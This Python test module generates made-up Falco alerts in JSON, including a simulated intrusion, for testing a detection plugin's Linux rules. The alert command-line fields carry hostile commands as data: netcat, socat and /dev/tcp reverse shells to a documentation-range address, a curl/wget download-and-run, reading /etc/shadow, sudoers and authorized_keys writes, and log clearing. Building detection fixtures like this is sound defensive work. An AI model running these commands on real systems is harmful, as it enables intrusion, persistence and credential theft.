"""Falco alerts as Falco writes them, for tests and for trying the source
without a Falco sensor (``python -m kestrel_sources_falco.testing > falco.jsonl``).

What the lines are based on (read, not copied):

* the JSON shape: falcosecurity/falco at 1307474 (2026-07-31),
  ``userspace/engine/formats.cpp``: top-level ``time`` (ISO 8601 with
  nanoseconds, ``Z``), ``rule``, ``priority``, ``source``, ``hostname``,
  then ``output``, ``tags`` and ``output_fields`` (each behind a
  ``json_include_*`` option of ``falco.yaml``, on by default), keys sorted
  (nlohmann::json objects are ordered maps); ``output`` is the text line:
  ``<evt.time>: <Priority> <rule output>``; ``output_fields`` holds every
  field the rule's output names plus ``evt.time`` (nanoseconds);
* the rules and the fields each one's output names: falcosecurity/rules at
  c72713e (2026-06-18), ``rules/falco_rules.yaml`` and
  ``falco-sandbox_rules.yaml``: the stable rules' output tail is
  ``evt.type user.name user.uid user.loginuid proc.name proc.exepath
  proc.pname proc.cmdline proc.tty`` (no pid), plus each rule's own fields;
  container fields as ``append_output``'s suggested output adds them;
* the catch-all rules of this plugin (``falco/kestrel_rules.yaml``) for the
  lines whose rule is ``Kestrel ...``: those name pids and flags.

Values (paths, addresses from the documentation ranges, pids) are made up.
"""

from __future__ import annotations

import sys
from datetime import datetime, timezone
from typing import Any, Iterable

import orjson

T0_NS = 1_785_000_000_000_000_000
"""2026-07-25T17:20:00Z: the first line's time."""
HOST = "web-1"

def iso(ts_ns: int) -> str:
    secs, ns = divmod(ts_ns, 10**9)
    return datetime.fromtimestamp(secs, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S") + f".{ns:09d}Z"


def alert(rule: str, priority: str, message: str, fields: dict[str, Any], ts_ns: int, *,
          tags: Iterable[str] = (), hostname: str = HOST, source: str = "syscall") -> dict[str, Any]:
    """One alert in Falco's json_output shape."""
    secs, ns = divmod(ts_ns, 10**9)
    clock = datetime.fromtimestamp(secs, timezone.utc).strftime("%H:%M:%S") + f".{ns:09d}"
    shown = " ".join(f"{k.replace('.', '_')}={'<NA>' if v is None else v}" for k, v in fields.items())
    return {
        "hostname": hostname,
        "output": f"{clock}: {priority} {message} | {shown}",
        "output_fields": {"evt.time": ts_ns, **fields},
        "priority": priority,
        "rule": rule,
        "source": source,
        "tags": sorted(tags),
        "time": iso(ts_ns),
    }


def line(doc: dict[str, Any]) -> str:
    return orjson.dumps(doc, option=orjson.OPT_SORT_KEYS).decode()


def _tail(evt_type: str, user: str, uid: int, name: str, exepath: str, pname: str, cmdline: str,
          tty: int = 0, loginuid: int = 1000) -> dict[str, Any]:
    """The fields every stable Falco rule's output ends with."""
    return {"evt.type": evt_type, "user.name": user, "user.uid": uid, "user.loginuid": loginuid,
            "proc.name": name, "proc.exepath": exepath, "proc.pname": pname, "proc.cmdline": cmdline,
            "proc.tty": tty}


def _host_container() -> dict[str, Any]:
    return {"container.id": "host", "container.name": "host", "container.image.repository": None,
            "container.image.tag": None, "k8s.ns.name": None, "k8s.pod.name": None}


def story(t0_ns: int = T0_NS, host: str = HOST) -> list[dict[str, Any]]:
    """An intrusion as Falco reports it, one alert per step, 1 ms apart:
    first through Falco's default rules, then through the catch-all rules.
    :data:`STORY_ALERTS` lists the Linux-pack alerts it must raise."""
    t = iter(range(t0_ns, t0_ns + 10**9, 10**6))
    out = [
        # default ruleset ---------------------------------------------------
        alert("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program",
              {"fd.name": "/etc/shadow", "proc.aname[2]": "sshd", "proc.aname[3]": "systemd", "proc.aname[4]": None,
               **_tail("openat", "root", 0, "cat", "/usr/bin/cat", "bash", "cat /etc/shadow", 34816, 1000),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555")),
        alert("Read sensitive file trusted after startup", "Warning",
              "Sensitive file opened for reading by trusted program after startup",
              {"fd.name": "/etc/shadow", "proc.pcmdline": "sshd -D", "proc.aname[2]": "systemd",
               "proc.aname[3]": None, "proc.aname[4]": None,
               **_tail("openat", "root", 0, "sshd", "/usr/sbin/sshd", "sshd", "sshd -D", 0, -1),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555")),
        alert("Execution from /dev/shm", "Warning", "File execution detected from /dev/shm",
              {"evt.res": "SUCCESS", "fd.name": None, "proc.cwd": "/dev/shm/.x/", "proc.pcmdline": "bash",
               "user.loginname": "alice", "group.gid": 0, "group.name": "root",
               **_tail("execve", "root", 0, "kworker", "/dev/shm/.x/kworker", "bash",
                       "kworker --donate-level=1 -o pool.example.net:3333", 34816),
               "evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER", **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "mitre_execution", "T1059.004")),
        alert("Set Setuid or Setgid bit", "Notice", "Setuid or setgid bit is set via chmod",
              {"evt.arg.fd": None, "evt.arg.filename": "/tmp/rootsh",
               "evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
               **_tail("fchmodat", "root", 0, "chmod", "/usr/bin/chmod", "bash", "chmod u+s /tmp/rootsh", 34816),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_sandbox", "host", "container", "process", "users", "mitre_privilege_escalation",
                    "T1548.001")),
        alert("Schedule Cron Jobs", "Notice", "Cron jobs were scheduled to run",
              {"fd.name": "/etc/cron.d/sync",
               **_tail("openat", "root", 0, "tee", "/usr/bin/tee", "bash", "tee /etc/cron.d/sync", 34816),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_incubating", "host", "container", "filesystem", "mitre_execution", "T1053.003")),
        alert("Netcat Remote Code Execution in Container", "Warning",
              "Netcat runs inside container that allows remote code execution",
              {**_tail("execve", "www-data", 33, "nc", "/usr/bin/nc.traditional", "sh",
                       "nc -e /bin/sh 203.0.113.9 4444", 0, -1),
               "evt.arg.flags": "EXE_LOWER_LAYER", "container.id": "3ad7b26ded6d", "container.name": "shop-api",
               "container.image.repository": "registry.example.com/shop/api", "container.image.tag": "1.4.2",
               "k8s.ns.name": "shop", "k8s.pod.name": "shop-api-7c9d8-x2kqj"}, next(t), hostname=host,
              tags=("maturity_stable", "container", "network", "process", "mitre_execution", "T1059")),
        alert("Run shell untrusted", "Notice", "Shell spawned by untrusted binary",
              {"proc.pexe": "/usr/sbin/nginx", "proc.pexepath": "/usr/sbin/nginx",
               "proc.pcmdline": "nginx -g daemon off;", "proc.aname[2]": "nginx", "proc.aname[3]": "containerd-shim",
               **_tail("execve", "www-data", 33, "sh", "/usr/bin/dash", "nginx", "sh -c id;uname -a", 0, -1),
               "evt.arg.flags": "EXE_LOWER_LAYER", **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "process", "shell", "mitre_execution", "T1059.004")),
    ]
    # catch-all rules (falco/kestrel_rules.yaml): pids, args, flags ------------------
    def proc(pid: int, ppid: int, name: str, exepath: str, args: str, pname: str, pexe: str, pcmd: str) -> dict:
        return {"proc.name": name, "proc.exe": exepath, "proc.exepath": exepath, "proc.args": args,
                "proc.cmdline": f"{name} {args}".rstrip(), "proc.pid": pid, "proc.ppid": ppid, "proc.pname": pname,
                "proc.pexepath": pexe, "proc.pcmdline": pcmd, "proc.cwd": "/root/", "proc.tty": 34816,
                "user.name": "root", "user.uid": 0, "user.loginuid": 1000, "group.gid": 0, "container.id": "host"}

    curl = proc(4100, 4000, "curl", "/usr/bin/curl", "-so /tmp/.p http://198.51.100.7/p", "bash", "/usr/bin/bash",
                "bash")
    out += [
        alert("Kestrel process exec", "Informational", "kestrel exec",
              {"evt.type": "execve", "evt.res": "SUCCESS", **curl}, next(t), hostname=host,
              tags=("kestrel", "process")),
        alert("Kestrel file open", "Informational", "kestrel open",
              {"evt.type": "openat", "evt.res": "SUCCESS", "fd.name": "/tmp/.p", "fd.type": "file",
               "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC|O_F_CREATED", **curl}, next(t), hostname=host,
              tags=("kestrel", "filesystem")),
        alert("Kestrel process exec", "Informational", "kestrel exec",
              {"evt.type": "execve", "evt.res": "SUCCESS",
               **proc(4101, 4000, ".p", "/tmp/.p", "", "bash", "/usr/bin/bash", "bash")}, next(t), hostname=host,
              tags=("kestrel", "process")),
        alert("Kestrel file change", "Informational", "kestrel file",
              {"evt.type": "unlinkat", "evt.res": "SUCCESS", "fd.name": None, "evt.arg.name": "/tmp/.p",
               "evt.arg.path": None, **proc(4101, 4000, ".p", "/tmp/.p", "", "bash", "/usr/bin/bash", "bash")},
              next(t), hostname=host, tags=("kestrel", "filesystem")),
        alert("Kestrel network connection", "Informational", "kestrel net",
              {"evt.type": "connect", "evt.res": "EINPROGRESS", "fd.name": "10.0.0.5:51000->203.0.113.5:4444",
               "fd.cip": "10.0.0.5", "fd.cport": 51000, "fd.sip": "203.0.113.5", "fd.sport": 4444,
               "fd.l4proto": "tcp", "fd.type": "ipv4",
               **proc(4200, 4000, "python3", "/usr/bin/python3.11", "-c import socket,os;s=socket.socket()",
                      "bash", "/usr/bin/bash", "bash")}, next(t), hostname=host, tags=("kestrel", "network")),
        alert("Kestrel process exec", "Informational", "kestrel exec",
              {"evt.type": "execve", "evt.res": "SUCCESS",
               **proc(4201, 4200, "bash", "/usr/bin/bash", "-i", "python3", "/usr/bin/python3.11",
                      "python3 -c import socket,os;s=socket.socket()")}, next(t), hostname=host,
              tags=("kestrel", "process")),
    ]
    return out


STORY_ALERTS = {
    "kestrel.linux.shadow_file_open": 1,  # cat; sshd's read of the same file is an allowed reader
    "kestrel.linux.exec_from_tmp": 2,  # /dev/shm/.x/kworker, /tmp/.p
    "kestrel.linux.miner_cli_options": 1,
    "kestrel.linux.setuid_bit_set": 1,
    "kestrel.linux.chmod_exec_in_tmp": 1,
    "kestrel.linux.cron_file_write": 1,  # an open for writing by the rule's definition (no flags in its output)
    "kestrel.linux.netcat_exec_shell": 1,
    "kestrel.linux.web_server_spawns_shell": 1,
    "kestrel.linux.webshell_recon": 1,
    "kestrel.linux.seq_download_tool_then_tmp_exec": 1,
    "kestrel.linux.dropper_chain": 1,
    "kestrel.linux.seq_tmp_binary_self_delete": 1,
    "kestrel.linux.shell_connects_to_rare_port": 1,
    "kestrel.linux.seq_interpreter_connect_then_shell": 1,
}
"""Linux-pack rule -> alerts over :func:`story` (why each fires: docs of the story's lines)."""



def _proc_alert(rule: str, priority: str, message: str, ts_ns: int, evt_type: str, name: str, exepath: str,
                cmdline: str, pname: str = "bash", user: str = "root", uid: int = 0, extra: dict | None = None,
                tags: Iterable[str] = (), tty: int = 34816) -> dict[str, Any]:
    fields = {**(extra or {}), **_tail(evt_type, user, uid, name, exepath, pname, cmdline, tty)}
    fields.setdefault("container.id", "host")
    return alert(rule, priority, message, fields, ts_ns, tags=tags)


def default_rule_samples(t0_ns: int = T0_NS) -> list[tuple[str, str, list[dict[str, Any]], frozenset[str]]]:
    """``(Falco rule, its rules file, alerts, Linux-pack rules they raise)``: one
    realistic case per Falco rule whose output carries what a Linux-pack rule
    reads (output fields as in falcosecurity/rules at c72713e).  The README's
    table is this list; ``tests/test_coverage.py`` checks both."""
    t = iter(range(t0_ns, t0_ns + 10**9, 10**6))
    stable, sandbox, incubating = "falco_rules.yaml", "falco-sandbox_rules.yaml", "falco-incubating_rules.yaml"
    exe_flags = {"evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}
    out = []

    def case(rule: str, where: str, docs: list[dict[str, Any]], *expect: str) -> None:
        out.append((rule, where, docs, frozenset(f"kestrel.linux.{e}" for e in expect)))

    def opened(rule: str, prio: str, path: str, name: str, exepath: str, cmdline: str, pname: str = "bash"):
        return _proc_alert(rule, prio, "m", next(t), "openat", name, exepath, cmdline, pname, extra={"fd.name": path})

    case("Search Private Keys or Passwords", stable, [_proc_alert(
        "Search Private Keys or Passwords", "Warning", "Grep private keys or passwords activities found", next(t),
        "execve", "find", "/usr/bin/find", "find / -name id_rsa", extra=exe_flags)], "private_key_search")
    case("Read sensitive file untrusted", stable, [opened(
        "Read sensitive file untrusted", "Warning", "/etc/shadow", "cat", "/usr/bin/cat", "cat /etc/shadow")],
        "shadow_file_open")
    case("Read sensitive file trusted after startup", stable, [opened(
        "Read sensitive file trusted after startup", "Warning", "/etc/shadow", "sshd", "/usr/sbin/sshd", "sshd -D",
        "sshd")])
    case("Read ssh information", incubating, [opened(
        "Read ssh information", "Error", "/home/alice/.ssh/id_ed25519", "python3", "/usr/bin/python3.11",
        "python3 steal.py")], "ssh_private_key_read")
    case("Execution from /dev/shm", stable, [_proc_alert(
        "Execution from /dev/shm", "Warning", "File execution detected from /dev/shm", next(t), "execve", "x",
        "/dev/shm/x", "x", extra=exe_flags)], "exec_from_tmp")
    case("Drop and execute new binary in container", stable, [_proc_alert(
        "Drop and execute new binary in container", "Critical", "Executing binary not part of base image", next(t),
        "execve", "kinsing", "/tmp/.cache/kinsing", "kinsing", "sh",
        extra={**exe_flags, "proc.exe": "/tmp/.cache/kinsing", "container.id": "3ad7b26ded6d"})],
        "exec_from_tmp", "crypto_miner")
    case("Fileless execution via memfd_create", stable, [_proc_alert(
        "Fileless execution via memfd_create", "Critical", "Fileless execution via memfd_create", next(t), "execve",
        "3", "/memfd:payload (deleted)", "3", extra={"evt.res": "SUCCESS", **exe_flags})], "memfd_exec")
    case("Set Setuid or Setgid bit", sandbox, [_proc_alert(
        "Set Setuid or Setgid bit", "Notice", "Setuid or setgid bit is set via chmod", next(t), "fchmodat", "chmod",
        "/usr/bin/chmod", "chmod 4755 /usr/local/bin/helper",
        extra={"evt.arg.filename": "/usr/local/bin/helper", "evt.arg.mode": "S_ISUID|S_IRWXU|S_IXGRP|S_IXOTH"})],
        "setuid_bit_set")
    case("Container Drift Detected (chmod)", sandbox, [_proc_alert(
        "Container Drift Detected (chmod)", "Error", "Drift detected (chmod)", next(t), "fchmodat", "chmod",
        "/bin/chmod", "chmod +x /tmp/x", "sh",
        extra={"evt.arg.filename": "/tmp/x", "evt.arg.name": None, "evt.arg.mode": "0755",
               "container.id": "3ad7b26ded6d"})], "chmod_exec_in_tmp")
    case("Schedule Cron Jobs", incubating, [opened(
        "Schedule Cron Jobs", "Notice", "/etc/cron.d/sync", "tee", "/usr/bin/tee", "tee /etc/cron.d/sync")],
        "cron_file_write")
    case("Write below etc", sandbox, [
        opened("Write below etc", "Error", "/etc/ld.so.preload", "tee", "/usr/bin/tee", "tee -a /etc/ld.so.preload"),
        opened("Write below etc", "Error", "/etc/passwd", "python3", "/usr/bin/python3.11", "python3 -c ..."),
        opened("Write below etc", "Error", "/etc/systemd/system/sync.service", "cp", "/usr/bin/cp",
               "cp sync.service /etc/systemd/system/"),
        opened("Write below etc", "Error", "/etc/udev/rules.d/99-x.rules", "tee", "/usr/bin/tee", "tee x"),
        opened("Write below etc", "Error", "/etc/sudoers", "sed", "/usr/bin/sed", "sed -i $a... /etc/sudoers"),
        opened("Write below etc", "Error", "/etc/rc.local", "tee", "/usr/bin/tee", "tee -a /etc/rc.local"),
        opened("Write below etc", "Error", "/etc/apt/apt.conf.d/99hook", "tee", "/usr/bin/tee", "tee x"),
        opened("Write below etc", "Error", "/etc/crontab", "tee", "/usr/bin/tee", "tee -a /etc/crontab")],
        "ld_so_preload_write", "account_db_unusual_writer", "systemd_unit_write", "udev_rule_write",
        "sudoers_modified", "rc_script_write", "package_manager_hook_write", "cron_file_write")
    case("Write below root", sandbox, [opened(
        "Write below root", "Error", "/root/.bashrc", "bash", "/usr/bin/bash", "bash")], "shell_profile_write")
    case("Modify Shell Configuration File", incubating, [opened(
        "Modify Shell Configuration File", "Warning", "/home/alice/.profile", "sh", "/usr/bin/dash",
        "sh -c echo >> ~/.profile")], "shell_profile_write")
    case("Adding ssh keys to authorized_keys", incubating, [opened(
        "Adding ssh keys to authorized_keys", "Warning", "/root/.ssh/authorized_keys", "sh", "/usr/bin/dash",
        "sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys")], "ssh_authorized_keys_write")
    case("Detect release_agent File Container Escapes", stable, [opened(
        "Detect release_agent File Container Escapes", "Critical", "/tmp/cg/release_agent", "sh", "/bin/sh",
        "sh -c echo /cmd > /tmp/cg/release_agent")], "cgroup_release_agent_write")
    case("Netcat Remote Code Execution in Container", stable, [_proc_alert(
        "Netcat Remote Code Execution in Container", "Warning", "Netcat runs inside container", next(t), "execve",
        "nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.9 4444", "sh",
        extra={"container.id": "3ad7b26ded6d"})], "netcat_exec_shell")
    case("Netcat/Socat Remote Code Execution on Host", sandbox, [_proc_alert(
        "Netcat/Socat Remote Code Execution on Host", "Warning", "Netcat/Socat runs on host", next(t), "execve",
        "socat", "/usr/bin/socat", "socat exec:/bin/bash,pty,stderr tcp:203.0.113.9:4444"),
        _proc_alert("Netcat/Socat Remote Code Execution on Host", "Warning", "Netcat/Socat runs on host", next(t),
                    "execve", "ncat", "/usr/bin/ncat", "ncat --sh-exec /bin/sh 203.0.113.9 4444")],
        "socat_reverse_shell", "netcat_exec_shell")
    case("Run shell untrusted", stable, [_proc_alert(
        "Run shell untrusted", "Notice", "Shell spawned by untrusted binary", next(t), "execve", "sh",
        "/usr/bin/dash", "sh -c id;uname -a", "nginx", "www-data", 33, tty=0)],
        "web_server_spawns_shell", "webshell_recon")
    case("Reverse Shell from Web Server", sandbox, [_proc_alert(
        "Reverse Shell from Web Server", "Critical", "Reverse shell spawned from web server", next(t), "execve",
        "bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "apache2", "www-data", 33,
        tty=0)], "web_server_spawns_shell", "reverse_shell_dev_tcp")
    case("Detect crypto miners using the Stratum protocol", sandbox, [_proc_alert(
        "Detect crypto miners using the Stratum protocol", "Critical", "Possible miner running", next(t), "execve",
        "xmrig", "/opt/x/xmrig", "xmrig -o stratum+tcp://pool.example.net:3333")], "crypto_miner")
    case("Sudo Potential Privilege Escalation", sandbox, [_proc_alert(
        "Sudo Potential Privilege Escalation", "Critical", "Detect Sudo Privilege Escalation Exploit", next(t),
        "execve", "sudoedit", "/usr/bin/sudoedit", "sudoedit -s \\ 1111111111", user="alice", uid=1000)],
        "sudo_exploit_attempt")
    case("User mgmt binaries", incubating, [
        _proc_alert("User mgmt binaries", "Notice", "User management binary command run outside of container",
                    next(t), "execve", "useradd", "/usr/sbin/useradd", "useradd -m -s /bin/bash svc"),
        opened("Write below etc", "Error", "/etc/sudoers.d/svc", "tee", "/usr/bin/tee", "tee /etc/sudoers.d/svc")],
        "user_account_created", "sudoers_modified", "seq_new_user_then_sudoers")
    case("Delete or rename shell history", incubating, [_proc_alert(
        "Delete or rename shell history", "Warning", "Shell history deleted or renamed", next(t), "unlinkat", "rm",
        "/usr/bin/rm", "rm -f /root/.bash_history",
        extra={"fd.name": None, "evt.arg.name": "/root/.bash_history", "evt.arg.path": None,
               "evt.arg.oldpath": None})], "history_file_deleted")
    case("Interpreted procs outbound network activity", sandbox, [_proc_alert(
        "Interpreted procs outbound network activity", "Notice", "Interpreted program performed outgoing network "
        "connection", next(t), "connect", "python3", "/usr/bin/python3.11", "python3 -c import socket",
        extra={"fd.name": "10.0.0.5:51000->203.0.113.5:4444", "fd.lport": 51000, "fd.rport": 4444,
               "fd.type": "ipv4", "fd.l4proto": "tcp"})], "shell_connects_to_rare_port")
    case("Linux Kernel Module Injection Detected", stable, [_proc_alert(
        "Linux Kernel Module Injection Detected", "Warning", "Linux Kernel Module injection from container", next(t),
        "finit_module", "python3", "/usr/bin/python3.11", "python3 load.py",
        extra={"proc.pexepath": "/usr/bin/bash", "proc.args": "load.py", "evt.res": "SUCCESS",
               "container.id": "3ad7b26ded6d"})], "kernel_module_unusual_loader")
    case("Launch Ingress Remote File Copy Tools in Container", incubating, [
        _proc_alert("Launch Ingress Remote File Copy Tools in Container", "Notice", "Ingress remote file copy tool "
                    "launched in container", next(t), "execve", "wget", "/usr/bin/wget",
                    "wget -q http://198.51.100.7/x -O /tmp/x", "sh", extra={"container.id": "3ad7b26ded6d"}),
        _proc_alert("Drop and execute new binary in container", "Critical", "Executing binary not part of base image",
                    next(t), "execve", "x", "/tmp/x", "x", "sh", extra={"container.id": "3ad7b26ded6d"})],
        "seq_download_tool_then_tmp_exec", "exec_from_tmp")
    case("Clear Log Activities", stable, [opened(
        "Clear Log Activities", "Warning", "/var/log/auth.log", "truncate", "/usr/bin/truncate",
        "truncate -s0 /var/log/auth.log")])
    return out

if __name__ == "__main__":
    sys.stdout.write("".join(line(doc) + "\n" for doc in story()))
